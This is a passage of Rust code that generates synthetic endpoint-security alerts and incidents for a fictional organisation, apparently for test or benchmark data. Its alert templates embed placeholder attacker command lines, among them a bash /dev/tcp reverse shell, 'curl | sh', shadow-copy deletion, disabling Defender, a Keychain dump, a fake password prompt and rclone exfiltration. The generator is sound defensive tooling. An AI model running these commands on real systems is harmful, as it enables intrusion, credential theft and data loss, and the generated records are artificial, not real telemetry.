        hive: "HKEY_CURRENT_USER",
        key: r"Software\Microsoft\Windows\CurrentVersion\Run",
        kind: "String",
        value: "@FULL@",
    }),
    ..EDR
};
const AV_TAMPER: Tpl = Tpl {
    title: "Attempt to turn off Microsoft Defender Antivirus protection",
    category: "DefenseEvasion",
    mitre: &["T1562.001"],
    description: "A command tried to disable real-time protection of Microsoft Defender Antivirus.",
    process: run(
        Cat(C::PowerShell),
        Cat(C::Cmd),
        "powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true",
    ),
    ..EDR
};
const INJECTION: Tpl = Tpl {
    title: "Suspicious process injection observed",
    category: "DefenseEvasion",
    severity: "High",
    mitre: &["T1055", "T1218.011"],
    description: "A process injected code into another process, hiding malicious activity in a trusted one.",
    process: run(Cat(C::Rundll32), Cat(C::PowerShell), "rundll32.exe \"@FULL@\",DllRegisterServer"),
    file: Some(Payload),
    ..EDR
};
const AV_MALWARE: Tpl = Tpl { title: "'@FAMILY@' malware @VERB@", threat: Threat::Incident, file: Some(Payload), ..AV };
const PUA_AV: Tpl = Tpl {
    title: "'@FAMILY@' unwanted software @VERB@",
    severity: "Low",
    threat: Threat::Incident,
    file: Some(Payload),
    ..AV
};
const EICAR_AV: Tpl = Tpl {
    title: "'EICAR_Test_File' malware @VERB@",
    severity: "Informational",
    threat: Threat::Fixed("EICAR_Test_File", "Virus:DOS/EICAR_Test_File"),
    file: Some(Cat(C::Eicar)),
    ..AV
};
const SMARTSCREEN: Tpl = Tpl {
    title: "A malicious URL was blocked by Microsoft Defender SmartScreen",
    category: "InitialAccess",
    severity: "Low",
    source: "WindowsDefenderSmartScreen",
    mitre: &["T1566.002", "T1189"],
    description: "A user opened a link to a page known for phishing or malware; SmartScreen blocked it.",
    process: run(Cat(C::Msedge), Cat(C::Explorer), "\"msedge.exe\" --single-argument @PHISH@"),
    net: Net::Phish,
    ..EDR
};
const PSEXEC_SVC: Tpl = Tpl {
    title: "Suspicious service launched",
    category: "LateralMovement",
    mitre: &["T1021.002", "T1569.002"],
    description: "A service was created remotely to run a file, as PsExec does for lateral movement.",
    slot: 1,
    process: run(Cat(C::Psexesvc), Cat(C::Services), r"C:\Windows\PSEXESVC.exe"),
    file: Some(Payload),
    ..EDR
};
const VSS_DELETE: Tpl = Tpl {
    title: "File backups were deleted",
    category: "Impact",
    severity: "High",
    mitre: &["T1490"],
    description: "Volume shadow copies were deleted, preventing recovery; ransomware does this before encrypting.",
    slot: 1,
    process: run(Cat(C::Vssadmin), Cat(C::Cmd), "vssadmin.exe delete shadows /all /quiet"),
    ..EDR
};
const RANSOM: Tpl = Tpl {
    title: "Ransomware behavior detected in the file system",
    category: "Ransomware",
    severity: "High",
    mitre: &["T1486"],
    description: "A process encrypted many files and left ransom notes.",
    threat: Threat::Incident,
    slot: 1,
    process: run(Payload, Cat(C::Psexesvc), "\"@FULL@\" -path C:\\ -threads 8"),
    file: Some(Payload),
    ..EDR
};
const RANSOM_2: Tpl = Tpl { slot: 2, ..RANSOM };
const RANSOM_AV: Tpl = Tpl {
    title: "'@FAMILY@' ransomware @VERB@",
    category: "Ransomware",
    severity: "High",
    threat: Threat::Incident,
    slot: 2,
    file: Some(Payload),
    ..AV
};
const ARCHIVE: Tpl = Tpl {
    title: "Suspicious archive creation",
    category: "Collection",
    severity: "Low",
    mitre: &["T1560.001"],
    description: "Documents were packed into a password-protected archive, often staging for exfiltration.",
    process: run(
        Cat(C::SevenZip),
        Cat(C::Cmd),
        r"7z.exe a -mx1 -p@STEM@ C:\Users\Public\@STEM@.7z C:\Users\@USER@\Documents",
    ),
    ..EDR
};
const EXFIL: Tpl = Tpl {
    title: "Possible data exfiltration to cloud storage",
    category: "Exfiltration",
    severity: "High",
    mitre: &["T1567.002"],
    description: "A sync tool uploaded an archive to cloud storage the organisation does not use.",
    process: run(
        Cat(C::Rclone),
        Cat(C::Cmd),
        r"rclone.exe copy C:\Users\Public\@STEM@.7z remote:@STEM@ --config C:\Users\Public\rclone.conf -q",
    ),
    net: Net::Url,
    ..EDR
};
const CUSTOM_DET: Tpl = Tpl {
    title: "Custom detection: encoded PowerShell started by Office",
    source: "CustomDetection",
    mitre: &["T1059.001"],
    description: "Custom detection rule: an Office application started PowerShell with an encoded command.",
    process: run(Cat(C::PowerShell), Cat(C::Excel), "powershell.exe -w hidden -enc @B64@"),
    ..EDR
};
const MAC_OSASCRIPT: Tpl = Tpl {
    title: "Suspicious AppleScript activity",
    mitre: &["T1059.002", "T1056.002"],
    description: "AppleScript showed a fake system password prompt, a technique of macOS information stealers.",
    process: run(
        Cat(C::Osascript),
        Payload,
        "osascript -e 'display dialog \"macOS needs to access System Settings. Enter your password.\" with title \
         \"System Settings\" default answer \"\" with hidden answer'",
    ),
    file: Some(Payload),
    ..EDR
};
const MAC_KEYCHAIN: Tpl = Tpl {
    title: "Suspicious Keychain access",
    category: "CredentialAccess",
    severity: "High",
    mitre: &["T1555.001"],
    description: "A process dumped the user's Keychain, which stores passwords and tokens.",
    process: run(
        Cat(C::Security),
        Payload,
        "security dump-keychain -d /Users/@USER@/Library/Keychains/login.keychain-db",
    ),
    ..EDR
};
const MAC_LAUNCHCTL: Tpl = Tpl {
    title: "Suspicious launchctl tool activity",
    category: "Persistence",
    mitre: &["T1543.001"],
    description: "A launch agent was loaded to start a low-prevalence binary at every logon.",
    process: run(
        Cat(C::Launchctl),
        Launcher,
        "launchctl load -w /Users/@USER@/Library/LaunchAgents/com.@STEM@.agent.plist",
    ),
    file: Some(Payload),
    ..EDR
};
const LNX_WEB: Tpl = Tpl {
    title: "Suspicious process executed by a web server",
    category: "InitialAccess",
    severity: "High",
    mitre: &["T1190", "T1505.003"],
    description: "A web application process started a shell that downloaded a script: likely exploitation.",
    process: run(Cat(C::LinuxSh), Cat(C::Java), "/bin/sh -c curl -fsSL @URL@ | sh"),
    net: Net::Url,
    ..EDR
};
const LNX_DOWNLOAD: Tpl = Tpl {
    title: "Suspicious download and execution",
    mitre: &["T1105", "T1059.004"],
    description: "A file was downloaded into a hidden or temporary folder and made executable.",
    process: run(Cat(C::LinuxCurl), Launcher, "curl -fsSL -o @FULL@ @URL@"),
    file: Some(Payload),
    net: Net::Url,
    ..EDR
};
const LNX_MINER: Tpl = Tpl {
    title: "Possible cryptocurrency mining activity",
    category: "Impact",
    mitre: &["T1496"],
    description: "A process connected to a mining pool and used the CPU heavily.",
    process: run(Payload, Cat(C::LinuxBash), "@FULL@ -o stratum+tcp://@HOST@:3333 -u x -p x -k --donate-level 1 -B"),
    net: Net::Ip,
    ..EDR
};
const LNX_REVSHELL: Tpl = Tpl {
    title: "Possible reverse shell",
    severity: "High",
    mitre: &["T1059.004"],
    description: "A shell was connected to a remote address, giving an attacker interactive access.",
    process: run(Cat(C::LinuxBash), Launcher, "bash -i >& /dev/tcp/@IP@/4444 0>&1"),
    net: Net::Ip,
    ..EDR
};
const LNX_CRON: Tpl = Tpl {
    title: "Suspicious cron job",
    category: "Persistence",
    mitre: &["T1053.003"],
    description: "A cron job was installed to run a low-prevalence file periodically.",
    process: run(Cat(C::Crontab), Cat(C::LinuxBash), "crontab /tmp/.@STEM@.cron"),
    file: Some(Payload),
    ..EDR
};

/// Alerts per incident at most (longer stories are sampled down, keeping the anchor).
const MAX_ALERTS: usize = 6;

/// What the incident's payload is.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Pk {
    Exe,
    Dll,
    Installer,
    MacBin,
    MacApp,
    Elf,
}

/// An attack story: alerts are an ordered subset of `chain` (always with `anchor`).
struct Scenario {
    fam: Fam,
    weight: u32,
    /// Also happens on servers.
    servers: bool,
    chain: &'static [&'static Tpl],
    anchor: usize,
    min: usize,
    launcher: C,
    payload: Pk,
    /// (family, threat name)
    families: &'static [(&'static str, &'static str)],
    /// The determination when resolved as a true positive.
    verdict: &'static str,
    /// Percent of resolved incidents that are expected activity / false positives.
    benign: u32,
    false_positive: u32,
    /// Antivirus or automated investigation usually closes it by itself.
    auto: bool,
    /// The payload's file determination type (`Malware`, `Pua`, `Unknown`).
    payload_verdict: &'static str,
    tags: &'static [&'static str],
    /// The payload is also seen on a few other devices (commodity spread).
    spreads: bool,
}

const SCEN: Scenario = Scenario {
    fam: Fam::Win,
    weight: 1,
    servers: true,
    chain: &[],
    anchor: 0,
    min: 1,
    launcher: C::Explorer,
    payload: Pk::Exe,
    families: &[],
    verdict: "Malware",
    benign: 10,
    false_positive: 10,
    auto: false,
    payload_verdict: "Unknown",
    tags: &[],
    spreads: false,
};

const COMMODITY: &[(&str, &str)] = &[
    ("Qakbot", "Trojan:Win32/Qakbot.RPX!MTB"),
    ("Emotet", "Trojan:Win32/Emotet.DSK!MTB"),
    ("AgentTesla", "Trojan:MSIL/AgentTesla.ABC!MTB"),
    ("LummaStealer", "Trojan:Win32/LummaStealer.RPZ!MTB"),
    ("Remcos", "Backdoor:Win32/Remcos.GA!MTB"),
    ("Wacatac", "Trojan:Win32/Wacatac.B!ml"),
];
const LOADERS: &[(&str, &str)] = &[
    ("Qakbot", "Trojan:Win32/Qakbot.RPX!MTB"),
    ("IcedID", "Trojan:Win64/IcedID.MA!MTB"),
    ("Emotet", "Trojan:Win32/Emotet.DSK!MTB"),
];

const SCENARIOS: &[Scenario] = &[
    Scenario {
        weight: 26,
        chain: &[&AV_MALWARE, &C2_CONN],
        families: COMMODITY,
        benign: 2,
        false_positive: 8,
        auto: true,
        payload_verdict: "Malware",
        tags: &["Commodity malware"],
        spreads: true,
        ..SCEN
    },
    Scenario {
        weight: 10,
        servers: false,
        chain: &[&PUA_AV],
        payload: Pk::Installer,
        families: &[("FusionCore", "PUA:Win32/FusionCore"), ("InstallCore", "PUA:Win32/InstallCore")],
        verdict: "UnwantedSoftware",
        benign: 30,
        auto: true,
        payload_verdict: "Pua",
        spreads: true,
        ..SCEN
    },
    Scenario { weight: 3, chain: &[&EICAR_AV], verdict: "Other", benign: 95, false_positive: 0, auto: true, ..SCEN },
    Scenario {
        weight: 6,
        servers: false,
        chain: &[&SMARTSCREEN],
        verdict: "Phishing",
        false_positive: 25,
        tags: &["Phishing"],
        ..SCEN
    },
    Scenario {
        weight: 12,
        servers: false,
        chain: &[&OFFICE_CHILD, &PS_DOWNLOAD, &DROP_EXEC, &C2_CONN, &SCHTASK],
        launcher: C::Cmd,
        families: LOADERS,
        verdict: "MultiStagedAttack",
        benign: 3,
        false_positive: 7,
        payload_verdict: "Malware",
        tags: &["Phishing"],
        ..SCEN
    },
    Scenario {
        weight: 9,
        chain: &[&PS_ENC, &MIMIKATZ_AV, &CRED_DUMP, &LSASS_DUMP, &RUBEUS_AV],
        anchor: 2,
        launcher: C::Cmd,
        verdict: "CompromisedUser",
        benign: 25,
        false_positive: 5,
        tags: &["Credential theft"],
        ..SCEN
    },
    Scenario {
        weight: 9,
        chain: &[&RECON_SEQ, &ACCOUNT_LOOKUP, &LDAP_RECON],
        anchor: 1,
        launcher: C::Cmd,
        verdict: "MaliciousUserActivity",
        benign: 45,
        false_positive: 15,
        ..SCEN
    },
    Scenario {
        weight: 8,
        chain: &[&CERTUTIL, &DROP_EXEC, &SCHTASK, &RUNKEY],
        anchor: 2,
        verdict: "Malware",
        benign: 20,
        false_positive: 15,
        payload_verdict: "Malware",
        families: COMMODITY,
        ..SCEN
    },
    Scenario {
        weight: 5,
        chain: &[&AV_TAMPER, &PS_ENC, &INJECTION],
        launcher: C::Cmd,
        payload: Pk::Dll,
        verdict: "MultiStagedAttack",
        benign: 20,
        payload_verdict: "Malware",
        families: &[("CobaltStrike", "Backdoor:Win64/CobaltStrike.NP!dha")],
        ..SCEN
    },
    Scenario {
        weight: 6,
        chain: &[&PS_ENC, &INJECTION, &C2_RUNDLL],
        anchor: 2,
        min: 2,
        launcher: C::WmiPrvSE,
        payload: Pk::Dll,
        families: &[("CobaltStrike", "Backdoor:Win64/CobaltStrike.NP!dha")],
        verdict: "MultiStagedAttack",
        benign: 10,
        false_positive: 3,
        payload_verdict: "Malware",
        tags: &["Cobalt Strike"],
        ..SCEN
    },
    Scenario {
        weight: 3,
        chain: &[&PS_ENC, &LSASS_DUMP, &PSEXEC_SVC, &VSS_DELETE, &RANSOM, &RANSOM_2, &RANSOM_AV],
        anchor: 4,
        min: 3,
        launcher: C::Cmd,
        families: &[
            ("LockBit", "Ransom:Win32/LockBit.MK!MTB"),
            ("BlackCat", "Ransom:Win32/BlackCat.MA!MTB"),
            ("Akira", "Ransom:Win64/Akira.A!MTB"),
        ],
        verdict: "MultiStagedAttack",
        benign: 2,
        false_positive: 1,
        payload_verdict: "Malware",
        tags: &["Ransomware", "Human-operated"],
        ..SCEN
    },
    Scenario {
        weight: 3,
        chain: &[&ARCHIVE, &EXFIL],
        anchor: 1,
        launcher: C::Cmd,
        verdict: "MaliciousUserActivity",
        benign: 30,
        false_positive: 10,
        tags: &["Exfiltration"],
        ..SCEN
    },
    Scenario {
        weight: 3,
        servers: false,
        chain: &[&CUSTOM_DET],
        verdict: "Malware",
        benign: 40,
        false_positive: 20,
        ..SCEN
    },
    // macOS
    Scenario {
        fam: Fam::Mac,
        weight: 40,
        chain: &[&PUA_AV],
        launcher: C::MacZsh,
        payload: Pk::MacApp,
        families: &[("Pirrit", "Adware:MacOS/Pirrit"), ("Bundlore", "Adware:MacOS/Bundlore.A")],
        verdict: "UnwantedSoftware",
        benign: 20,
        auto: true,
        payload_verdict: "Pua",
        spreads: true,
        ..SCEN
    },
    Scenario {
        fam: Fam::Mac,
        weight: 30,
        chain: &[&MAC_OSASCRIPT, &MAC_KEYCHAIN, &C2_CONN, &AV_MALWARE],
        launcher: C::MacZsh,
        payload: Pk::MacBin,
        families: &[("AtomicStealer", "Trojan:MacOS/AtomicStealer!MTB")],
        verdict: "Malware",
        benign: 5,
        false_positive: 5,
        payload_verdict: "Malware",
        tags: &["Infostealer"],
        ..SCEN
    },
    Scenario {
        fam: Fam::Mac,
        weight: 20,
        chain: &[&MAC_LAUNCHCTL, &C2_CONN],
        launcher: C::MacZsh,
        payload: Pk::MacBin,
        verdict: "Malware",
        benign: 25,
        false_positive: 15,
        ..SCEN
    },
    // Linux
    Scenario {
        fam: Fam::Linux,
        weight: 40,
        chain: &[&LNX_WEB, &LNX_DOWNLOAD, &LNX_MINER, &AV_MALWARE, &LNX_CRON],
        anchor: 2,
        launcher: C::LinuxBash,
        payload: Pk::Elf,
        families: &[("CoinMiner", "Trojan:Linux/CoinMiner.B!MTB"), ("XMRig", "Trojan:Linux/XMRig!MTB")],
        verdict: "Malware",
        benign: 5,
        false_positive: 5,
        payload_verdict: "Malware",
        tags: &["Cryptojacking"],
        spreads: true,
        ..SCEN
    },
    Scenario {
        fam: Fam::Linux,
        weight: 30,
        chain: &[&LNX_WEB, &LNX_REVSHELL, &C2_CONN],
        anchor: 1,
        launcher: C::Java,
        payload: Pk::Elf,
        verdict: "MultiStagedAttack",
        benign: 10,
        false_positive: 10,
        ..SCEN
    },
    Scenario {
        fam: Fam::Linux,
        weight: 30,
        chain: &[&LNX_DOWNLOAD, &LNX_CRON],
        anchor: 1,
        launcher: C::LinuxBash,
        payload: Pk::Elf,
        verdict: "Malware",
        benign: 30,
        false_positive: 15,
        ..SCEN
    },
];

/// Whether a template names the payload or the lure document anywhere.
fn uses(t: &Tpl, want: fn(Img) -> bool) -> bool {
    t.file.is_some_and(want) || t.process.is_some_and(|p| want(p.image) || want(p.parent))
}

const ANALYSTS: &[&str] = &["amara.okafor", "li.wei", "sam.taylor", "priya.nair", "jonas.berg"];
/// Closing notes by classification.
fn resolve_notes(classification: &str) -> &'static [&'static str] {
    match classification {
        "TruePositive" => &[
            "Confirmed with the device owner; payload removed and password reset.",
            "Device isolated and reimaged; user retrained.",
            "Contained; credentials of the affected account rotated.",
        ],
        "InformationalExpectedActivity" => &[
            "Known admin tooling, approved change.",
            "Red team exercise, see ticket.",
            "Expected behaviour of a line-of-business application.",
        ],
        _ => &["Benign, closing.", "False positive: signed internal tool.", "Not enough data to confirm; closing."],
    }
}
const WORK_NOTES: &[&str] =
    &["Investigating with the device owner.", "Escalated to tier 2.", "Collected an investigation package."];

// ---------------------------------------------------------------------------------------------
// The generator

/// Placeholders of command lines, paths and titles.
#[derive(Default)]
struct Vars<'a> {
    user: &'a str,
    full: &'a str,
    url: &'a str,
    phish: &'a str,
    ip: &'a str,
    host: &'a str,
    b64: &'a str,
    stem: &'a str,
    family: &'a str,
    pid: &'a str,
    verb: &'a str,
    rand: &'a str,
}

impl<'a> Vars<'a> {
    fn get(&self, key: &str) -> Option<&'a str> {
        Some(match key {
            "USER" => self.user,
            "FULL" => self.full,
            "URL" => self.url,
            "PHISH" => self.phish,
            "IP" => self.ip,
            "HOST" => self.host,
            "B64" => self.b64,
            "STEM" => self.stem,
            "FAMILY" => self.family,
            "PID" => self.pid,
            "VERB" => self.verb,
            "RAND" => self.rand,
            _ => return None,
        })
    }

    /// `tpl` with every known `@KEY@` replaced; anything else kept verbatim. Sized exactly in a
    /// first pass: these strings are made a few million times at benchmark scale.
    fn fill(&self, tpl: &str) -> String {
        let mut len = 0;
        self.walk(tpl, |piece| len += piece.len());
        let mut out = String::with_capacity(len);
        self.walk(tpl, |piece| out.push_str(piece));
        out
    }

    fn walk(&self, tpl: &str, mut emit: impl FnMut(&str)) {
        let mut rest = tpl;
        while let Some(i) = rest.find('@') {
            emit(&rest[..i]);
            let after = &rest[i + 1..];
            if let Some(j) = after.find('@')
                && let Some(v) = self.get(&after[..j])
            {
                emit(v);
                rest = &after[j + 1..];
                continue;
            }
            emit("@");
            rest = after;
        }
        emit(rest);
    }
}

/// A file of one incident.
struct Dropped {
    name: String,
    dir: String,
    full: String,
    hashes: Hashes,
}

struct Gen<'a> {
    opts: &'a FleetOptions,
    groups: &'a RbacConfig,
    tenant: String,
    base: u64,
    start: i64,
    now: i64,
    dns: String,
    netbios: String,
    dom_sid: [u32; 3],
    /// Domain users (upper bound: one owner per device, plus 10%).
    users: u32,
    admins: u32,
    name_offset: u64,
    code_offset: u64,
    subscriptions: [String; 2],
    /// Catalogue hashes by `C as usize * C::SLOTS + variant`.
    cat: Vec<Hashes>,
    detectors: BTreeMap<&'static str, String>,
    hosts: Vec<Host>,
    hot: usize,
    // Machine-phase counters.
    clients: u64,
    owners: u32,
    win_roles: [u32; WIN_ROLES.len()],
    linux_roles: [u32; LINUX_ROLES.len()],
    site_clients: [u32; SITES.len()],
    site_servers: [u32; SITES.len()],
    cloud: u32,
    // Alert-phase numbering.
    first_incident: i64,
    next_investigation: i64,
    alert_salt: u32,
}

impl<'a> Gen<'a> {
    fn new(tenant: Uuid, opts: &'a FleetOptions, groups: &'a RbacConfig) -> Self {
        let (hi, lo) = tenant.as_u64_pair();
        let base = mix64(opts.seed ^ mix64(hi ^ mix64(lo)));
        let now = ticks(opts.now);
        let start = now - i64::from(opts.days.max(1)) * DAY;
        let dns = {
            let d = opts.tenant_domain.trim().trim_end_matches('.').to_ascii_lowercase();
            if d.is_empty() { "contoso.com".to_string() } else { d }
        };
        let netbios = {
            let n: String = dns
                .split('.')
                .next()
                .unwrap_or_default()
                .chars()
                .filter(|c| c.is_ascii_alphanumeric() || *c == '-')
                .take(15)
                .collect::<String>()
                .to_ascii_uppercase();
            if n.is_empty() { "CONTOSO".to_string() } else { n }
        };
        let mut r = Rng::new(base, 0);
        let dom_sid = [0; 3].map(|_: u32| 1_000_000_000 + r.below(3_000_000_000) as u32);
        let users = (opts.machines + opts.machines / 10 + 10) as u32;
        let admins = (users / 250).max(2);
        let subscriptions = [r.guid(), r.guid()];
        let mut cat =
            vec![Hashes { sha1: String::new(), sha256: String::new(), md5: String::new() }; C::ALL.len() * C::SLOTS];
        for &c in C::ALL {
            let info = c.info();
            for v in 0..usize::from(info.variants) {
                cat[c as usize * C::SLOTS + v] = if c == C::Eicar {
                    // The real, public hashes of the EICAR test file.
                    Hashes {
                        sha1: "3395856ce81f2b7382dee72602f798b642f14140".into(),
                        sha256: "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f".into(),
                        md5: "44d88612fea8a8f36de82e1278abb02f".into(),
                    }
                } else {
                    Hashes::random(&mut Rng::new(CATALOGUE_SEED ^ fnv1a(info.name) ^ info.fam as u64, v as u64))
                };
            }
        }
        // Detector ids are global (the same detection has the same id in every tenant).
        let ns = Uuid::from_u128(0x7a1d_5e2c_4b8f_4e01_9c3d_2f6a_8b0e_1d47);
        let mut detectors = BTreeMap::new();
        for s in SCENARIOS {
            for t in s.chain {
                detectors.entry(t.title).or_insert_with(|| Uuid::new_v5(&ns, t.title.as_bytes()).to_string());
            }
        }
        Gen {
            opts,
            groups,
            tenant: tenant.to_string(),
            base,
            start,
            now,
            dns,
            netbios,
            dom_sid,
            users,
            admins,
            name_offset: r.below(26 * LAST.len() as u64),
            code_offset: r.below(36u64.pow(7)),
            subscriptions,
            cat,
            detectors,
            hosts: Vec::with_capacity(opts.machines),
            hot: (opts.machines / 50).max(1),
            clients: 0,
            owners: 0,
            win_roles: [0; WIN_ROLES.len()],
            linux_roles: [0; LINUX_ROLES.len()],
            site_clients: [0; SITES.len()],
            site_servers: [0; SITES.len()],
            cloud: 0,
            first_incident: 1 + r.below(50_000) as i64,
            next_investigation: 1 + r.below(90_000) as i64,
            alert_salt: r.next_u64() as u32,
        }
    }

    // --- accounts ---

    /// Account name of domain user `u`: a permutation of initial × surname, then numbered.
    fn account(&self, u: u32) -> String {
        let m = 26 * LAST.len() as u64;
        let p = (u64::from(u) % m * NAME_PERM + self.name_offset) % m;
        let mut s = String::with_capacity(12);
        s.push((b'a' + (p % 26) as u8) as char);
        s.push_str(LAST[(p / 26) as usize]);
        let round = u64::from(u) / m;
        if round > 0 {
            s.push_str(&(round + 1).to_string());
        }
        s
    }

    fn domain_sid(&self, rid: u64) -> String {
        let [a, b, c] = self.dom_sid;
        format!("S-1-5-21-{a}-{b}-{c}-{rid}")
    }

    fn who(&self, h: &Host, a: Acct) -> Who {
        let users = u64::from(self.users);
        let domain_account = |name: String, rid: u64, kind: u64, idx: u64, admin: bool| Who {
            upn: Some(format!("{name}@{}", self.dns)),
            aad: Some(stable_guid(self.base ^ kind, idx)),
            sid: Some(self.domain_sid(rid)),
            domain: self.netbios.clone(),
            name,
            admin,
        };
        match a {
            Acct::User(u) => domain_account(self.account(u), 1105 + u64::from(u), 1, u64::from(u), false),
            Acct::Admin(j) => {
                domain_account(format!("adm-{}", self.account(j)), 1105 + users + u64::from(j), 2, u64::from(j), true)
            }
            Acct::Service(s) => Who {
                aad: None,
                ..domain_account(
                    SERVICES[usize::from(s)].to_string(),
                    1105 + users + u64::from(self.admins) + u64::from(s),
                    3,
                    u64::from(s),
                    false,
                )
            },
            Acct::LocalAdmin => {
                let [x, y, z] = h.local_sid;
                Who {
                    name: "Administrator".into(),
                    domain: h.short.clone(),
                    sid: Some(format!("S-1-5-21-{x}-{y}-{z}-500")),
                    upn: None,
                    aad: None,
                    admin: false,
                }
            }
            Acct::LocalUser(u) => {
                Who { name: self.account(u), domain: h.short.clone(), sid: None, upn: None, aad: None, admin: false }
            }
            Acct::Local(n) => {
                Who { name: n.to_string(), domain: h.short.clone(), sid: None, upn: None, aad: None, admin: false }
            }
        }
    }

    // --- files ---

    fn hashes(&self, c: C, h: &Host) -> &Hashes {
        let v = usize::from(h.variant % c.info().variants);
        &self.cat[c as usize * C::SLOTS + v]
    }

    /// Profiles of every catalogue build (sent with the first chunk).
    fn catalogue_files(&self) -> Vec<FileInfo> {
        let mut out = Vec::new();
        for &c in C::ALL {
            let info = c.info();
            for v in 0..usize::from(info.variants) {
                let hs = &self.cat[c as usize * C::SLOTS + v];
                let mut r = Rng::new(CATALOGUE_SEED ^ fnv1a(&hs.sha1), 7);
                let first_seen = self.now - r.between(200 * DAY, 1500 * DAY);
                out.push(FileInfo {
                    sha1: hs.sha1.clone(),
                    sha256: Some(hs.sha256.clone()),
                    md5: Some(hs.md5.clone()),
                    global_prevalence: Some(info.prevalence / 2 + r.between(0, info.prevalence)),
                    global_first_observed: Some(at(first_seen)),
                    global_last_observed: Some(at(self.now - r.between(MIN, 6 * HOUR))),
                    // EICAR has its real, fixed size; other builds vary a little.
                    size: Some(if c == C::Eicar {
                        info.size
                    } else {
                        info.size + r.between(-(info.size / 20), info.size / 20 + 1)
                    }),
                    file_type: Some(info.file_type.into()),
                    is_pe_file: info.pe,
                    file_publisher: info.publisher.map(Into::into),
                    file_product_name: info.product.map(Into::into),
                    signer: info.signer.map(|s| s.0.into()),
                    issuer: info.signer.map(|s| s.1.into()),
                    signer_hash: info.signer.map(|s| Rng::new(fnv1a(s.0), 3).hex_string(20)),
                    is_valid_certificate: info.signer.is_some(),
                    determination_type: Some(info.verdict.map_or("Clean", |v| v.0).into()),
                    determination_value: info.verdict.map(|v| v.1.into()),
                });
            }
        }
        out
    }

    // --- machines ---

    /// The 7 characters after `DESKTOP-`/`LAPTOP-`: a keyed bijection of 37-bit numbers (xor-shifts
    /// and odd multipliers), cycle-walked into `0..36^7`, so distinct `n` give distinct codes that
    /// do not look sequential.
    fn client_code(&self, n: u64) -> String {
        const M: u64 = 36u64.pow(7);
        const MASK: u64 = (1 << 37) - 1;
        const DIGITS: &[u8; 36] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ";
        let mut x = n % M;
        loop {
            x = (x + self.code_offset) & MASK;
            x ^= x >> 19;
            x = x.wrapping_mul(0x5_DEEC_E66D) & MASK;
            x ^= x >> 17;
            x = x.wrapping_mul(0x2545_F491_4F6C_DD1D) & MASK;
            x ^= x >> 15;
            if x < M {
                break;
            }
        }
        let mut b = [0u8; 7];
        for d in b.iter_mut().rev() {
            *d = DIGITS[(x % 36) as usize];
            x /= 36;
        }
        String::from_utf8_lossy(&b).into_owned()
    }

    fn machine(&mut self, rng: &mut Rng, i: usize, out: &mut Fleet) {
        let os = rng.weighted(OS_MIX);
        let fam = os.fam();
        let site = rng.weighted_by(SITES, |s| s.weight);
        let ver = rng.weighted(versions(os));
        let hot = i < self.hot;
        let mut tags: Vec<String> = Vec::new();
        let mut laptop = false;
        let mut role = None;
        let mut owner = None;
        let short = match fam {
            Fam::Win if !os.server() => {
                laptop = rng.chance(0.55);
                self.clients += 1;
                let n = self.clients;
                owner = Some(self.owners);
                self.owners += 1;
                format!("{}-{}", if laptop { "LAPTOP" } else { "DESKTOP" }, self.client_code(n))
            }
            Fam::Win => {
                let r = rng.weighted_by(WIN_ROLES, |r| r.weight);
                role = Some(r as u8);
                self.win_roles[r] += 1;
                format!("SRV-{}-{:02}", WIN_ROLES[r].code, self.win_roles[r])
            }
            Fam::Mac => {
                laptop = true;
                owner = Some(self.owners);
                self.owners += 1;
                format!("mac-{}", self.account(self.owners - 1))
            }
            Fam::Linux => {
                let r = rng.weighted_by(LINUX_ROLES, |r| r.weight);
                role = Some(r as u8);
                self.linux_roles[r] += 1;
                format!("{}-{:02}", LINUX_ROLES[r].code, self.linux_roles[r])
            }
        };
        let server = os.server() || fam == Fam::Linux;
        let role_info =
            role.map(|r| if fam == Fam::Linux { &LINUX_ROLES[usize::from(r)] } else { &WIN_ROLES[usize::from(r)] });
        let dns = format!("{}.{}", short.to_ascii_lowercase(), self.dns);

        // Network: on-prem sites, Azure VMs, remote laptops.
        let cloud = (fam == Fam::Linux && rng.chance(0.5)) || (os.server() && rng.chance(0.2));
        let remote = laptop && rng.chance(0.35);
        let octet = SITES[site].octet;
        let (ip, kind) = if cloud {
            let c = self.cloud;
            self.cloud += 1;
            (format!("172.16.{}.{}", (c / 250) % 256, 4 + c % 250), "Ethernet")
        } else if remote {
            (format!("192.168.{}.{}", rng.pick(&[0, 1, 178]), rng.between(2, 255)), "Wireless80211")
        } else if server {
            let c = self.site_servers[site];
            self.site_servers[site] += 1;
            (format!("10.{}.{}.{}", 100 + u32::from(octet), 10 + (c / 240) % 240, 10 + c % 240), "Ethernet")
        } else {
            let c = self.site_clients[site];
            self.site_clients[site] += 1;
            let kind = if laptop && rng.chance(0.6) { "Wireless80211" } else { "Ethernet" };
            (format!("10.{}.{}.{}", octet, 10 + (c / 240) % 240, 10 + c % 240), kind)
        };
        let sub = rng.idx(2);
        let external = if cloud {
            format!("203.0.113.{}", 100 + sub * 5 + rng.idx(5))
        } else if remote {
            format!("198.51.100.{}", rng.between(1, 255))
        } else {
            format!("203.0.113.{}", 10 * (site + 1) + 1 + rng.idx(2))
        };
        let mut mac = String::with_capacity(12);
        mac.push_str(if cloud { "000D3A" } else { rng.pick(OUIS) });
        rng.hex(&mut mac, 3, true);
        let mut ip_addresses = vec![IpAddress {
            ip_address: ip.clone(),
            mac_address: Some(mac.clone()),
            kind: kind.into(),
            operational_status: "Up".into(),
        }];
        if fam != Fam::Linux {
            let mut v6 = String::from("fe80::");
            for k in 0..4 {
                if k > 0 {
                    v6.push(':');
                }
                v6.push_str(&format!("{:x}", rng.below(0x10000)));
            }
            ip_addresses.push(IpAddress {
                ip_address: v6,
                mac_address: Some(mac),
                kind: kind.into(),
                operational_status: "Up".into(),
            });
        }
        if laptop && fam == Fam::Win && rng.chance(0.5) {
            let mut mac2 = String::from(rng.pick(OUIS));
            rng.hex(&mut mac2, 3, true);
            ip_addresses.push(IpAddress {
                ip_address: format!("169.254.{}.{}", rng.between(1, 255), rng.between(1, 255)),
                mac_address: Some(mac2),
                kind: "Ethernet".into(),
                operational_status: "Down".into(),
            });
        }
        ip_addresses.push(IpAddress {
            ip_address: "127.0.0.1".into(),
            mac_address: None,
            kind: "SoftwareLoopback".into(),
            operational_status: "Up".into(),
        });

        // Times: most devices were there from the start; some were onboarded during the span.
        let span = self.now - self.start;
        let first = if rng.chance(0.85) {
